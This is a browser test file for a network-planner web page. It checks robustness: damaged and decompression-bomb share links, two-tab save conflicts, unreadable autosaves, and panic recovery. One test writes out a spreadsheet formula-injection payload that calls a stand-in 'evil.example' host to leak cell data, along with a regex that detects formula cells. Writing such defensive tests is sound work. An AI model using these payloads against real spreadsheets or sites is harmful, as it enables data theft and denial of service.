// Browser tests of the page never losing work and never dying silently: a hostile share link,
// two tabs saving, an unreadable autosave too large to copy aside, a panic, what a link or a
// file may be (and how large), and links that read alike in the page and in the core.
import { test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { fileURLToPath } from 'node:url';
import { startServer, launch, newPage, open, prefixes, screenshot, seriousAxeViolations, DEBUG_BUILD } from './harness.mjs';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
/** The core's own share-link codec as a program (examples/share_link.rs). */
const SHARE_LINK = path.join(DEBUG_BUILD, 'examples/share_link');
const DESIGN_KEY = 'ise-planner.design';
const DAMAGED_KEY = 'ise-planner.design.damaged';
const HELD_KEY = 'ise-planner.design.held';
/** How long anything may take before the test fails: generous, it only says "it finished". */
const PATIENCE = 20000;

let server;
let browser;
const pages = [];
let openNow = [];

before(async () => {
  const built = spawnSync('cargo', ['build', '--quiet', '--example', 'share_link'], { cwd: ROOT, encoding: 'utf8' });
  assert.equal(built.status, 0, built.stderr);
  server = await startServer();
  browser = await launch();
});

after(async () => {
  for (const page of pages) {
    for (const url of page.requestsSeen) {
      assert.ok(url.startsWith(server.origin + '/') || url.startsWith('data:') || url.startsWith('blob:'), `request left the origin: ${url}`);
    }
  }
  await browser?.close();
  await server?.close();
});

afterEach(async () => {
  for (const page of openNow) await page.context().close().catch(() => {});
  openNow = [];
});

function watch(page) {
  page.requestsSeen = [];
  page.problems = [];
  page.on('request', (r) => page.requestsSeen.push(r.url()));
  page.on('pageerror', (e) => page.problems.push(`page error: ${e.message}`));
  page.on('console', (m) => { if (m.type() === 'error') page.problems.push(`console: ${m.text()}`); });
  page.on('dialog', (d) => { page.problems.push(`dialog: ${d.message()}`); d.dismiss(); });
  pages.push(page);
  return page;
}

async function fresh(options = {}) {
  const page = await newPage(browser, server.origin, undefined, options);
  pages.push(page);
  openNow.push(page);
  return page;
}

/** Another tab of the same browser profile: it shares local storage with `page`. */
async function sibling(page) {
  return watch(await page.context().newPage());
}

function assertQuiet(page) {
  assert.deepEqual(page.problems, [], 'the page reported problems');
}

/** A share link's fragment made as the page makes it: JSON, raw DEFLATE, base64url. */
const fragmentOf = (design) => 'd1.' + zlib.deflateRawSync(Buffer.from(JSON.stringify(design))).toString('base64url');

/** The core's reading of a link or fragment: the design's JSON text. */
function coreDecode(link) {
  const r = spawnSync(SHARE_LINK, ['decode'], { input: link, encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout;
}

function coreEncode(design) {
  const r = spawnSync(SHARE_LINK, ['encode'], { input: JSON.stringify(design), encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.trim();
}

const stored = (page, key = DESIGN_KEY) => page.evaluate((k) => localStorage.getItem(k), key);

/** Waits until the design stored under `key` has this ISE name. */
function savedName(page, name, key = DESIGN_KEY) {
  return page.waitForFunction(([k, n]) => {
    try { return JSON.parse(localStorage.getItem(k)).name === n; } catch { return false; }
  }, [key, name], { timeout: PATIENCE });
}

async function download(page, click) {
  const [d] = await Promise.all([page.waitForEvent('download', { timeout: PATIENCE }), click()]);
  return { name: d.suggestedFilename(), text: fs.readFileSync(await d.path(), 'utf8') };
}

function designFile(name, content) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ise-robust-'));
  const file = path.join(dir, name);
  fs.writeFileSync(file, content);
  return file;
}

test('a fragment that is not a share link is left alone; a damaged link says so', async () => {
  const page = await fresh();
  await open(page, server.url + '#top');
  assert.equal(new URL(page.url()).hash, '#top', 'the page leaves its own fragments alone');
  assert.equal(await page.locator('#notice-text').count(), 0);
  assert.equal(await page.inputValue('#f-name'), 'ise-1');
  await page.evaluate(() => { location.hash = '#section-2'; });
  assert.equal(await page.evaluate(() => location.hash), '#section-2');
  assert.equal(await page.locator('#notice-text').count(), 0, 'no "damaged link" for a fragment that is no link');
  // A damaged share link pasted into the open tab: the page's words say "damaged".
  await page.evaluate(() => { location.hash = '#d1.!!!'; });
  await page.locator('#notice-text', { hasText: 'could not be opened' }).waitFor({ timeout: PATIENCE });
  assert.match(await page.locator('#notice-text').innerText(), /^The shared link could not be opened: the link is damaged \(its design is not base64url\); copy the whole link again\.$/);
  const bomb = 'd1.' + zlib.deflateRawSync(Buffer.alloc(4 << 20, 32)).toString('base64url');
  await page.evaluate((h) => { location.hash = h; }, '#' + bomb);
  await page.locator('#notice-text', { hasText: 'does not unpack' }).waitFor({ timeout: PATIENCE });
  assert.match(await page.locator('#notice-text').innerText(), /the link is damaged/);
  assert.equal(await page.inputValue('#f-name'), 'ise-1');
  assertQuiet(page);
});

test('links read alike in the page and the core: core-made links open in the page, page-made links decode in the core', async () => {
  const page = await fresh();
  // Made by the core (miniz_oxide), opened by the page (the browser's DecompressionStream).
  const fragment = coreEncode({ version: 2, name: 'core-made', vnet: { addressPrefixes: ['172.20.0.0/24'] }, dnsServers: ['10.1.2.3'] });
  await open(page, `${server.url}#${fragment}`);
  await page.locator('#notice-text', { hasText: 'shared link' }).waitFor({ timeout: PATIENCE });
  assert.equal(await page.inputValue('#f-name'), 'core-made');
  assert.equal((await prefixes(page))[0], '172.20.0.0/27');
  assert.equal(new URL(page.url()).hash, '');

  // Made by the page (CompressionStream), read by the core: the very design the page saves.
  await page.fill('#f-name', 'page-made <&>');
  await page.fill('#f-dnsServers', '10.0.0.4');
  await page.check('#f-accessEndpoint-external');
  await page.click('#copy-link');
  await page.locator('.action', { has: page.locator('#copy-link') }).locator('.action-status.ok').waitFor({ timeout: PATIENCE });
  const link = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(link.startsWith(server.url + '#d1.'), link);
  const { text: saved } = await download(page, () => page.getByRole('button', { name: 'Save design', exact: true }).click());
  const decoded = coreDecode(link);
  assert.equal(decoded.trim(), saved.trim(), 'the core reads the page\'s link as the design the page saves');
  assert.equal(JSON.parse(decoded).name, 'page-made <&>');
  assertQuiet(page);
});

test('the amplified link (100,000-character VNet name, 2,000 ISE subnets) opens in a new tab, the page stays responsive, and the previous design stays restorable', async () => {
  const first = await fresh();
  await open(first, server.url);
  await first.fill('#f-name', 'precious-ise');
  await first.fill('#f-vnet-addressPrefixes', '10.42.0.0/24');
  await savedName(first, 'precious-ise');

  const amplified = {
    version: 2,
    vnet: { name: 'v'.repeat(100000), addressPrefixes: ['10.0.0.0/22'] },
    subnets: Array.from({ length: 2000 }, () => ({ name: 'ise-subnet' })),
  };
  const fragment = fragmentOf(amplified);
  assert.ok(fragment.length < 1000, `a short link: ${fragment.length} characters`);
  // A new tab of the same profile: there, the autosave is the previous design.
  const page = await sibling(first);
  await page.goto(`${server.url}#${fragment}`);
  await page.waitForSelector('main[data-complete]', { timeout: PATIENCE });
  await page.locator('#notice-text', { hasText: 'shared link' }).waitFor({ timeout: PATIENCE });
  assert.equal((await page.inputValue('#f-vnet-name')).length, 100000);
  // The loader reads one ISE subnet past the four (so the plan can say there are too many).
  assert.equal(await page.locator('table.subnets tbody tr').count(), 5, 'not 2,000 rows');
  assert.match(await page.locator('#summary').innerText(), /[1-9]\d* errors?/);
  // Responsive: a click is handled (the timeout is the failure, not a timing assertion).
  await page.check('#f-accessEndpoint-external', { timeout: PATIENCE });
  assert.equal(await page.isChecked('#f-accessEndpoint-external'), true);
  await page.fill('#f-name', 'typed-after-link', { timeout: PATIENCE });
  assert.equal(await page.inputValue('#f-name'), 'typed-after-link');
  // The previous design is one click away: in Recent designs, and by Undo.
  await page.locator('.recent summary').click();
  assert.equal(await page.getByRole('button', { name: /^Open precious-ise · 10\.42\.0\.0\/24/ }).count(), 1);
  await page.getByRole('button', { name: 'Undo' }).click();
  assert.equal(await page.inputValue('#f-name'), 'precious-ise');
  assert.equal((await prefixes(page))[0], '10.42.0.0/27');
  await savedName(page, 'precious-ise');
  assertQuiet(page);
  assertQuiet(first);
});

test('two tabs: a design saved by the other tab is noticed and offered, never silently overwritten', async () => {
  const a = await fresh();
  await open(a, server.url);
  const b = await sibling(a);
  await open(b, server.url);

  await a.fill('#f-name', 'from-a');
  await savedName(a, 'from-a');
  const offer = b.locator('#attention-text');
  await offer.waitFor({ timeout: PATIENCE });
  assert.match(await offer.innerText(), /^Another tab saved a different design \(from-a · 10\.0\.0\.0\/22\)/);
  assert.match(await offer.innerText(), /will not save over it until you choose/);

  // B goes on editing: its autosave keeps B's design aside and leaves A's in place.
  await b.fill('#f-name', 'from-b');
  await savedName(b, 'from-b', HELD_KEY);
  assert.equal(JSON.parse(await stored(b)).name, 'from-a', 'B did not write over A\'s design');
  // A tab opened now finds B's design among the recent designs.
  const c = await sibling(a);
  await open(c, server.url);
  assert.equal(await c.inputValue('#f-name'), 'from-a');
  await c.locator('.recent summary').click();
  assert.match(await c.locator('.recent').innerText(), /from-b · 10\.0\.0\.0\/22 — kept by a tab that could not save it/);
  await c.close();

  // B keeps its own: saved in place, and now A is told.
  await b.click('#keep-mine');
  assert.equal(await b.locator('#attention-text').count(), 0);
  assert.equal(JSON.parse(await stored(b)).name, 'from-b');
  assert.equal(await stored(b, HELD_KEY), null);
  await a.locator('#attention-text', { hasText: 'from-b' }).waitFor({ timeout: PATIENCE });
  // A loads it; A's own design is one click away.
  await a.click('#load-theirs');
  assert.equal(await a.inputValue('#f-name'), 'from-b');
  assert.match(await a.locator('#notice-text').innerText(), /Loaded the design the other tab saved/);
  assert.equal(await a.locator('#attention-text').count(), 0);
  await a.getByRole('button', { name: 'Undo' }).click();
  assert.equal(await a.inputValue('#f-name'), 'from-a');
  // …and saving it is again noticed in B, which still shows its own design.
  await savedName(a, 'from-a');
  await b.locator('#attention-text', { hasText: 'from-a' }).waitFor({ timeout: PATIENCE });
  assert.equal(await b.inputValue('#f-name'), 'from-b');
  assertQuiet(a);
  assertQuiet(b);
});

test('an unreadable autosave too large to copy aside: the truth is told, the original is never written over, it can be downloaded', async () => {
  const page = await fresh();
  await open(page, server.url);
  // Fill storage: the damaged design takes about 60% of this browser's quota.
  const quota = await page.evaluate(() => {
    localStorage.clear();
    let lo = 0;
    let hi = 256 << 20;
    while (hi - lo > 65536) {
      const mid = Math.floor((lo + hi) / 2);
      try { localStorage.setItem('probe', 'x'.repeat(mid)); lo = mid; } catch { hi = mid; } finally { localStorage.removeItem('probe'); }
    }
    return lo;
  });
  const length = Math.floor(quota * 0.6);
  const head = '{"version": 2, "name": "';
  const isOriginal = () => page.evaluate(([k, h, n]) => localStorage.getItem(k) === h + 'x'.repeat(n), [DESIGN_KEY, head, length - head.length]);
  await page.evaluate(([k, h, n]) => localStorage.setItem(k, h + 'x'.repeat(n)), [DESIGN_KEY, head, length - head.length]);
  await page.reload();
  await page.waitForSelector('main[data-complete]', { timeout: PATIENCE });
  const message = page.locator('#attention-text');
  assert.match(await message.innerText(), /^Your saved design could not be read \(this is not a design file/);
  assert.match(await message.innerText(), /no room in this browser to keep a copy of it, so it stays where it is, and this tab will not save over it until you download or discard it/);
  assert.doesNotMatch(await message.innerText(), /is kept in this browser \(under/);
  assert.deepEqual(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('ise-planner.design.damaged'))), [], 'no partial copy');

  // Work goes on; the autosave writes it aside, never over the original.
  await page.fill('#f-name', 'work-after-damage');
  await savedName(page, 'work-after-damage', HELD_KEY);
  assert.equal(await isOriginal(), true, 'the original is intact');
  // Offered as a download, byte for byte.
  const file = await download(page, () => page.click('#download-unreadable'));
  assert.equal(file.name, 'unreadable-saved-design.json');
  assert.equal(file.text.length, length);
  assert.ok(file.text.startsWith(head));
  // A reload (the page writes at once when it goes away) changes nothing: the work is in
  // Recent designs, the original still where it was.
  await page.reload();
  await page.waitForSelector('main[data-complete]', { timeout: PATIENCE });
  assert.equal(await isOriginal(), true, 'the original survived the reload');
  await page.locator('#attention-text', { hasText: 'no room' }).waitFor();
  await page.locator('.recent summary').click();
  assert.equal(await page.getByRole('button', { name: /^Open work-after-damage/ }).count(), 1);
  // Discarding it lets the page save again.
  await page.click('#discard-unreadable');
  assert.equal(await page.locator('#attention-text').count(), 0);
  assert.equal(JSON.parse(await stored(page)).name, 'ise-1');
  await page.getByRole('button', { name: /^Open work-after-damage/ }).click();
  await savedName(page, 'work-after-damage');
  assertQuiet(page);
});

test('copies of unreadable autosaves are kept until discarded, never written over; fields a lenient load reset are named', async () => {
  const page = await fresh();
  await open(page, server.url);
  const v1 = '{"version": 2, "vnet": ';
  const v2 = '"just a string"';
  await page.evaluate(([k, v]) => localStorage.setItem(k, v), [DESIGN_KEY, v1]);
  await page.reload();
  await page.waitForSelector('main[data-complete]');
  assert.match(await page.locator('#attention-text').innerText(), /could not be read .* The original is kept in this browser \(under "ise-planner\.design\.damaged"\) until you discard it\./);
  assert.equal(await stored(page, DAMAGED_KEY), v1);
  // With a copy kept, the autosave may replace the original.
  await page.fill('#f-name', 'after-v1');
  await savedName(page, 'after-v1');

  await page.evaluate(([k, v]) => localStorage.setItem(k, v), [DESIGN_KEY, v2]);
  await page.reload();
  await page.waitForSelector('main[data-complete]');
  assert.equal(await stored(page, DAMAGED_KEY), v1, 'the first copy is not written over');
  assert.equal(await stored(page, DAMAGED_KEY + '.2'), v2);
  assert.match(await page.locator('#attention-text').innerText(), /under "ise-planner\.design\.damaged\.2"/);
  // The older copy stays listed, with its download and discard.
  const older = await download(page, () => page.getByRole('button', { name: `Download ${DAMAGED_KEY}`, exact: true }).click());
  assert.equal(older.text, v1);
  await page.getByRole('button', { name: `Discard ${DAMAGED_KEY}`, exact: true }).click();
  assert.equal(await stored(page, DAMAGED_KEY), null);
  assert.equal(await page.locator('.damaged-copy').count(), 0);
  // Dismissing the message keeps the copy, listed.
  await page.getByRole('button', { name: 'Dismiss' }).first().click();
  assert.equal(await page.locator('#attention-text').count(), 0);
  assert.match(await page.locator('.damaged-copy').innerText(), /ise-planner\.design\.damaged\.2/);
  await page.getByRole('button', { name: `Discard ${DAMAGED_KEY}.2`, exact: true }).click();
  assert.equal(await stored(page, DAMAGED_KEY + '.2'), null);
  assert.equal(await page.locator('.damaged-copy').count(), 0);

  // An autosave with fields of the wrong type: read, the fields named, the original kept.
  const partial = JSON.stringify({ version: 2, name: 5, vnet: { addressPrefixes: ['10.9.0.0/24'] }, dnsServers: ['10.0.0.4', 7] });
  await page.evaluate(([k, v]) => localStorage.setItem(k, v), [DESIGN_KEY, partial]);
  await page.reload();
  await page.waitForSelector('main[data-complete]');
  assert.match(await page.locator('#attention-text').innerText(), /^Your saved design was read, but not all of it\. 2 fields had the wrong type and were reset to their defaults: ISE name, Custom DNS servers, line 2\./);
  assert.equal(await page.inputValue('#f-vnet-addressPrefixes'), '10.9.0.0/24');
  assert.equal(await stored(page, DAMAGED_KEY), partial);
  assertQuiet(page);
});

test('opened files and links name the fields they reset; what is not a design is refused with the core\'s reason; an oversized file is refused', async () => {
  const page = await fresh();
  await open(page, server.url);
  await page.fill('#f-name', 'kept-ise');
  await page.setInputFiles('#open-design', designFile('odd.json', JSON.stringify({ version: 2, name: 5, vnet: { name: 'odd-vnet' } })));
  await page.locator('#notice-text', { hasText: 'Opened odd.json' }).waitFor({ timeout: PATIENCE });
  assert.equal(await page.locator('#notice-text').innerText(), 'Opened odd.json. One field had the wrong type and was reset to its default: ISE name.');
  assert.equal(await page.inputValue('#f-vnet-name'), 'odd-vnet');
  await page.getByRole('button', { name: 'Undo' }).click();
  assert.equal(await page.inputValue('#f-name'), 'kept-ise');

  // Not a design: the core's reason, and nothing changes.
  for (const [name, content, reason] of [
    ['nameonly.json', JSON.stringify({ name: 'no-version' }), /^nameonly\.json was not opened: this is not an ISE Network Planner design: it has no "version"/],
    ['plan.json', JSON.stringify({ findings: [], nsgRules: [], subnets: [] }), /^plan\.json was not opened: this is not an ISE Network Planner design: it is a plan \(the planner's output\)/],
  ]) {
    await page.setInputFiles('#open-design', designFile(name, content));
    await page.locator('#notice-text', { hasText: name }).waitFor({ timeout: PATIENCE });
    assert.match(await page.locator('#notice-text').innerText(), reason);
    assert.equal(await page.inputValue('#f-name'), 'kept-ise');
  }

  // Larger than a design file can be (the CLI's limit too): refused before it is read.
  await page.evaluate(() => {
    const input = document.getElementById('open-design');
    const files = new DataTransfer();
    files.items.add(new File([new Uint8Array(64 * 1024 * 1024 + 1)], 'huge.json', { type: 'application/json' }));
    input.files = files.files;
    input.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await page.locator('#notice-text', { hasText: 'huge.json' }).waitFor({ timeout: PATIENCE });
  assert.equal(await page.locator('#notice-text').innerText(), 'huge.json was not opened: it is 65 MiB, and a design file is at most 64 MiB. Check that this is the right file.');
  assert.equal(await page.inputValue('#f-name'), 'kept-ise');

  // A link with a field of the wrong type.
  await page.evaluate((h) => { location.hash = h; }, '#' + fragmentOf({ version: 2, name: 'linked-ise', dnsServers: 'not a list' }));
  await page.locator('#notice-text', { hasText: 'shared link' }).waitFor({ timeout: PATIENCE });
  assert.equal(await page.locator('#notice-text').innerText(), 'Opened the design from the shared link. One field had the wrong type and was reset to its default: Custom DNS servers.');
  assert.equal(await page.inputValue('#f-name'), 'linked-ise');
  assertQuiet(page);
});

test('a design too large for a link is told so when the link is made, with Save design right there', async () => {
  const page = await fresh();
  await open(page, server.url);
  await page.evaluate((k) => {
    // 20,000 scattered /32s: they do not compress into a 32,768-character link.
    const existing = [];
    for (let i = 0; i < 20000; i++) existing.push({ name: '', prefix: `10.${i % 251}.${(i * 7) % 253}.${(i * 13) % 255}/32` });
    localStorage.setItem(k, JSON.stringify({ version: 2, name: 'big-ise', vnet: { addressPrefixes: ['10.0.0.0/8'], existingSubnets: existing } }));
  }, DESIGN_KEY);
  await page.reload();
  await page.waitForSelector('main[data-complete]', { timeout: PATIENCE });
  await page.evaluate(() => navigator.clipboard.writeText('clipboard before'));
  await page.click('#copy-link');
  const status = page.locator('.action', { has: page.locator('#copy-link') }).locator('.action-status.failed');
  await status.waitFor({ timeout: PATIENCE });
  assert.match(await status.innerText(), /^No link: this design is too large for a share link \(the link would be \d+ characters long; a share link holds at most 32768\); use Save design and send the file instead\./);
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'clipboard before', 'no link was copied');
  const file = await download(page, () => status.getByRole('button', { name: 'Save design' }).click());
  assert.equal(file.name, 'big-ise-design.json');
  assert.equal(JSON.parse(file.text).vnet.existingSubnets.length, 20000);
  assertQuiet(page);
});

test('a copied table has no formula cell, even for a subnet named =HYPERLINK(…)', async () => {
  const page = await fresh();
  await open(page, server.url);
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  await page.fill('#f-subnets-0-name', evil);
  await page.fill('#f-subnets-1-name', '@SUM(1+1)');
  await page.locator('#results').getByRole('button', { name: 'Copy table' }).click();
  await page.locator('#results .action-status.ok').waitFor({ timeout: PATIENCE });
  const { tsv, html } = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    return { tsv: await (await item.getType('text/plain')).text(), html: await (await item.getType('text/html')).text() };
  });
  const cells = tsv.split(/\r?\n/).filter(Boolean).flatMap((row) => row.split('\t'));
  assert.ok(cells.includes(`'${evil}`), tsv);
  assert.ok(cells.includes("'@SUM(1+1)"), tsv);
  assert.deepEqual(cells.filter((c) => /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(c)), [], 'no cell a spreadsheet would run');
  assert.ok(html.includes("&#39;=HYPERLINK") || html.includes("'=HYPERLINK"), html);
  assertQuiet(page);
});

test('a panic (the DOM changed behind Yew\'s back) shows a readable message with a reload button, and the latest design is saved', async () => {
  const page = await fresh();
  // Timers stand still: the debounced autosave cannot run, so only the panic hook can save.
  await page.clock.install();
  await open(page, server.url);
  await page.fill('#f-name', 'unsaved-when-it-broke');
  assert.notEqual(JSON.parse((await stored(page)) || '{}').name, 'unsaved-when-it-broke', 'not saved yet');
  // As a page translator does: a node Yew rendered disappears; the next notice is inserted
  // before it, and Yew panics.
  await page.evaluate(() => {
    // The row that holds the status line and the view switch, right after the notices.
    document.getElementById('summary').closest('.status-row').remove();
    location.hash = '#d1.!!!';
  });
  const reload = page.locator('#panic #panic-reload');
  await reload.waitFor({ timeout: PATIENCE });
  assert.equal(await page.isVisible('#panic'), true);
  assert.match(await page.locator('#panic-text').innerText(), /^Sorry — ISE Network Planner hit an internal error and stopped\. Your design is saved in this browser; reload the page to continue\./);
  assert.equal(JSON.parse(await stored(page)).name, 'unsaved-when-it-broke', 'the hook saved the latest design');
  assert.ok(page.problems.some((p) => /failed to insert node/.test(p)), 'the panic is in the console too');
  await reload.click();
  await page.waitForSelector('main[data-complete]', { timeout: PATIENCE });
  assert.equal(await page.inputValue('#f-name'), 'unsaved-when-it-broke');
  assert.equal(await page.isHidden('#panic'), true);
});

test('axe-core finds nothing serious in the messages that ask the user to choose', async () => {
  const page = await fresh({ bypassCSP: true });
  await open(page, server.url);
  await page.evaluate(([k, d]) => {
    localStorage.setItem(d, '{"version": 2, "vnet": ');
    localStorage.setItem(k, '"just a string"');
  }, [DESIGN_KEY, DAMAGED_KEY]);
  await page.reload();
  await page.waitForSelector('#attention-text');
  assert.equal(await page.locator('.damaged-copy').count(), 1);
  await screenshot(page, 'unreadable-autosave.png', { fullPage: false });
  assert.deepEqual(await seriousAxeViolations(page), []);
  // Another tab saves: the offer to load it or keep this one.
  const other = await sibling(page);
  await open(other, server.url);
  await other.fill('#f-name', 'other-tab-ise');
  await page.locator('#attention-text', { hasText: 'Another tab saved' }).waitFor({ timeout: PATIENCE });
  await screenshot(page, 'other-tab-saved.png', { fullPage: false });
  assert.deepEqual(await seriousAxeViolations(page), []);
});
